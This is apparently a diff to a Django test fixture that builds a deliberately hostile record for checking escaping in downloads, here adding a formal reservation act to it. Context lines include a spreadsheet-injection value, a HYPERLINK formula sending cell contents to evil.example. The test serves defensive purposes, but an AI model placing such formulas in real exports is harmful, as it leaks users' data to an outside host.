@@ -23,6 +23,7 @@ from django.urls import (
 )
 
 from positions.models import (
+    ActKind,
     Actor,
     ActorIdentifier,
     ConditionStatus,
@@ -33,6 +34,7 @@ from positions.models import (
 from tests.factories import (
     ActorFactory,
     ConditionFactory,
+    FormalActFactory,
     MembershipFactory,
     QuestionFactory,
     SourceFactory,
@@ -150,6 +152,15 @@ def build_hostile_record():
         quote=payload("draft-quote"),
         status=StatementStatus.DRAFT,
     )
+    formal_act = FormalActFactory(
+        actor=actor,
+        topic=topic,
+        kind=ActKind.RESERVATION,
+        text=tag("act.text"),
+        place=tag("act.place")[:200],
+        depositary_reference=tag("act.depositary_reference")[:200],
+        source=source,
+    )
     # Spreadsheet formulas, for the downloads: a cell must never start with = + - @ tab or CR.
     formula_actor = ActorFactory(
         name='=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
@@ -177,6 +188,7 @@ def build_hostile_record():
         statement=statement,
         retracted=retracted,
         draft=draft,
+        formal_act=formal_act,
     )
     return record
 
